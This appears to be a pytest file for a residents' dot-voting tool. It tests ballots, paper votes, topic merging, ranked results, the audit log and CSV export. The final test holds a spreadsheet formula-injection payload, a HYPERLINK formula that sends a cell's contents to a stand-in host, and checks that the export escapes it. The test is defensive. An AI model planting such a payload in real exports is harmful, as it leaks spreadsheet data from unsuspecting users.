"""The dot vote: dots per participant, named and anonymous ballots, paper ballots, merging,
closing with ranked topics and the top N, and the audit log."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.core.cells import unescape_cell
from pipeline.core.fileio import OutputError
from store import (
    ConflictError,
    DataError,
    add_spot,
    add_topic,
    add_topics_from_spots,
    cast_ballot,
    close_session,
    enter_paper_ballot,
    get_results,
    get_session,
    list_audit,
    list_topics,
    merge_topics,
    open_session,
    results_to_csv,
    support_spot,
)
from tests.helpers.db import code, resident

LON, LAT = 116.33, 40.01


def _topics(store, session_id, planner, n):
    return [add_topic(store, session_id, planner, f"议题 {i + 1}").id for i in range(n)]


def test_defaults_are_three_dots_named_top_five(store, compound, planner):
    vote = open_session(store, compound, planner, "第一次居民议事会")
    assert (vote.dots_per_participant, vote.ballot_mode, vote.top_n, vote.status) == (3, "named", 5, "open")
    assert get_session(store, vote.id) == vote


def test_dots_per_participant_are_enforced(store, compound, planner):
    vote = open_session(store, compound, planner, "s")
    t1, t2 = _topics(store, vote.id, planner, 2)
    with pytest.raises(DataError, match="The ballot uses 4 dots: each participant has 3; take some off"):
        cast_ballot(store, vote.id, resident(), {t1: 2, t2: 2}, code=code(store, vote.id))
    with pytest.raises(DataError, match="puts no dots on any topic"):
        cast_ballot(store, vote.id, resident(), {}, code=code(store, vote.id))
    with pytest.raises(DataError, match=r"Dots on topic \d+ is 0: give a whole number from 1"):
        cast_ballot(store, vote.id, resident(), {t1: 0}, code=code(store, vote.id))
    with pytest.raises(DataError, match=r"Topics 999999 are not open topics of this vote"):
        cast_ballot(store, vote.id, resident(), {999999: 1}, code=code(store, vote.id))
    me, mine = resident(), code(store, vote.id)
    cast_ballot(store, vote.id, me, {t1: 3}, code=mine)  # all dots on one topic is allowed
    with pytest.raises(ConflictError, match=r"has voted already in this vote: one code casts one ballot"):
        cast_ballot(store, vote.id, me, {t2: 1}, code=mine)
    assert get_session(store, vote.id).ballots == 1


def test_spots_become_topics_and_merging_carries_supports_and_dots(store, compound, planner):
    a, b, c = resident("A"), resident("B"), resident("C")
    s1 = add_spot(store, compound, a, LON, LAT, "parking", "fire lane blocked")
    s2 = add_spot(store, compound, b, LON, LAT, "parking", "cars on the fire lane")
    support_spot(store, s1.id, c)
    support_spot(store, s2.id, c)
    vote = open_session(store, compound, planner, "s", dots=5)
    t1, t2 = add_topics_from_spots(store, vote.id, planner, [s1.id, s2.id])
    assert (t1.title, t1.spot_ids, t1.supports, t1.category) == ("fire lane blocked", (s1.id,), 2, "parking")
    voter = resident("D")
    cast_ballot(store, vote.id, voter, {t1.id: 2, t2.id: 3}, code=code(store, vote.id))
    cast_ballot(store, vote.id, resident("E"), {t2.id: 1}, code=code(store, vote.id))
    merged = merge_topics(store, t1.id, [t2.id], planner)
    assert merged.spot_ids == (s1.id, s2.id)
    assert merged.supports == 3  # A and B wrote the spots, C supported both: three residents
    assert [t.id for t in list_topics(store, vote.id)] == [t1.id]
    results = close_session(store, vote.id, planner)
    assert [(r.topic_id, r.dots, r.voters, r.supports) for r in results.ranked] == [(t1.id, 6, 2, 3)]


def test_closing_publishes_ranked_topics_and_the_top_five(store, compound, planner):
    """Seven topics; dots 4, 7, 0, 7, 2, 1, 3 (T1..T7); T4 has one more support than T2.

    Ranked: T4 7, T2 7 (tie, fewer supports), T1 4, T7 3, T5 2 | T6 1, T3 0.
    Ranks share on equal dots: 1, 1, 3, 4, 5, 6, 7.
    """
    spot = add_spot(store, compound, resident("S"), LON, LAT, "greenery", "more trees")
    vote = open_session(store, compound, planner, "s", dots=7, ballot_mode="anonymous")
    t = {
        name: add_topic(store, vote.id, planner, name, spot_ids=[spot.id] if name == "T4" else []).id
        for name in ("T1", "T2", "T3", "T4", "T5", "T6", "T7")
    }
    ballots = [
        {t["T2"]: 7},
        {t["T4"]: 7},
        {t["T1"]: 4, t["T7"]: 3},
        {t["T5"]: 2, t["T6"]: 1},
    ]
    for dots in ballots:
        cast_ballot(store, vote.id, resident(), dots, code=code(store, vote.id))
    results = close_session(store, vote.id, planner)
    titles = {v: k for k, v in t.items()}
    assert [(titles[r.topic_id], r.dots, r.rank, r.top) for r in results.ranked] == [
        ("T4", 7, 1, True),
        ("T2", 7, 1, True),
        ("T1", 4, 3, True),
        ("T7", 3, 4, True),
        ("T5", 2, 5, True),
        ("T6", 1, 6, False),
        ("T3", 0, 7, False),
    ]
    assert [r.topic_id for r in results.top] == [t["T4"], t["T2"], t["T1"], t["T7"], t["T5"]]
    assert (results.ballots, results.dots_cast, results.paper_ballots) == (4, 24, 0)
    assert results.named_ballots == ()  # anonymous
    assert results.session.status == "closed"
    assert get_results(store, vote.id) == results
    with pytest.raises(ConflictError, match="is closed: its results are published"):
        cast_ballot(store, vote.id, resident(), {t["T3"]: 1}, code=code(store, vote.id))
    with pytest.raises(ConflictError, match="is closed"):
        close_session(store, vote.id, planner)
    table = list(csv.DictReader(io.StringIO(results_to_csv(results))))
    assert [(row["title"], row["dots"], row["rank"], row["top"]) for row in table[:3]] == [
        ("T4", "7", "1", "1"), ("T2", "7", "1", "1"), ("T1", "4", "3", "1"),
    ]  # fmt: skip


def test_results_stay_as_published_when_spots_gain_support_later(store, compound, planner):
    spot = add_spot(store, compound, resident("A"), LON, LAT, "seating", "bench")
    vote = open_session(store, compound, planner, "s", top_n=1)
    topic = add_topic(store, vote.id, planner, "bench", spot_ids=[spot.id])
    other = add_topic(store, vote.id, planner, "other")
    published = close_session(store, vote.id, planner)
    support_spot(store, spot.id, resident("late"))
    assert get_results(store, vote.id) == published
    assert [(r.topic_id, r.supports, r.top) for r in published.ranked] == [
        (topic.id, 1, True), (other.id, 0, False),
    ]  # fmt: skip


def test_results_are_not_public_before_closing(store, compound, planner):
    vote = open_session(store, compound, planner, "s")
    with pytest.raises(ConflictError, match="is still open: results are published when a planner closes it"):
        get_results(store, vote.id)


def test_named_ballots_publish_names_anonymous_ones_keep_none(store, compound, planner):
    named = open_session(store, compound, planner, "named", ballot_mode="named")
    anon = open_session(store, compound, planner, "anonymous", ballot_mode="anonymous")
    (tn,) = _topics(store, named.id, planner, 1)
    (ta,) = _topics(store, anon.id, planner, 1)
    voter = resident("刘大爷")
    cast_ballot(store, named.id, voter, {tn: 2}, code=code(store, named.id))
    cast_ballot(store, anon.id, voter, {ta: 2}, code=code(store, anon.id))
    assert close_session(store, named.id, planner).named_ballots == (("刘大爷", {tn: 2}),)
    assert close_session(store, anon.id, planner).named_ballots == ()
    ballot_log = list_audit(store, compound_id=compound, object_type="ballot")
    by_session = {e.detail["session"]: e for e in ballot_log}
    assert by_session[named.id].actor == "resident:刘大爷"
    assert by_session[named.id].detail["voter"] == "刘大爷"
    assert by_session[anon.id].actor == "resident"
    assert "刘大爷" not in str(by_session[anon.id].detail)


def test_paper_ballots_are_entered_by_the_planner_once(store, compound, planner):
    vote = open_session(store, compound, planner, "s", ballot_mode="named")
    t1, t2 = _topics(store, vote.id, planner, 2)
    slip = code(store, vote.id)
    enter_paper_ballot(store, vote.id, planner, {t1: 1, t2: 2}, voter="陈阿姨 3号楼", code=slip)
    with pytest.raises(ConflictError, match="has voted already"):
        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter=" 陈阿姨 3号楼 ", code=slip.lower())
    with pytest.raises(DataError, match="Paper ballot voter is empty"):
        enter_paper_ballot(store, vote.id, planner, {t1: 1}, voter="", code=code(store, vote.id))
    results = close_session(store, vote.id, planner)
    assert (results.ballots, results.paper_ballots) == (1, 1)
    assert results.named_ballots == (("陈阿姨 3号楼", {t1: 1, t2: 2}),)
    (entry,) = list_audit(store, compound_id=compound, object_type="ballot")
    assert (entry.action, entry.actor) == ("ballot.paper", "planner:王规划")


def test_topics_only_from_the_sessions_compound(store, compound, planner):
    elsewhere = add_spot(store, compound + "x", resident(), LON, LAT, "waste", "bins")
    vote = open_session(store, compound, planner, "s")
    with pytest.raises(DataError, match=rf"Spots #{elsewhere.id} are not spots of this compound"):
        add_topic(store, vote.id, planner, "bins", spot_ids=[elsewhere.id])
    with pytest.raises(DataError, match="Ballot mode 'secret' is not known"):
        open_session(store, compound, planner, "s", ballot_mode="secret")
    with pytest.raises(DataError, match="Dots is 0: give a whole number from 1 to 100"):
        open_session(store, compound, planner, "s", dots=0)


def test_every_vote_change_is_in_the_audit_log(store, compound, planner):
    vote = open_session(store, compound, planner, "s")
    t1, t2 = _topics(store, vote.id, planner, 2)
    cast_ballot(store, vote.id, resident("V"), {t1: 1}, code=code(store, vote.id))
    merge_topics(store, t1, [t2], planner)
    close_session(store, vote.id, planner)
    assert [e.action for e in reversed(list_audit(store, compound_id=compound))] == [
        "session.open", "topic.add", "topic.add", "codes.issue", "ballot.cast", "topic.merge", "session.close",
    ]  # fmt: skip


FORMULA_TITLE = '=HYPERLINK("http://x"&A1,"幼儿园")'


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_a_formula_like_title_stays_text(store, compound, planner, tmp_path):
    vote = open_session(store, compound, planner, "s", dots=3, ballot_mode="anonymous")
    topic = add_topic(store, vote.id, planner, FORMULA_TITLE).id
    cast_ballot(store, vote.id, resident(), {topic: 3}, code=code(store, vote.id))
    results = close_session(store, vote.id, planner)
    text = results_to_csv(results, tmp_path / "results.csv")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'" + FORMULA_TITLE and unescape_cell(row["title"]) == FORMULA_TITLE
    assert (tmp_path / "results.csv").read_bytes().decode("utf-8-sig") == text
    with pytest.raises(OutputError, match="is a folder"):
        results_to_csv(results, tmp_path)
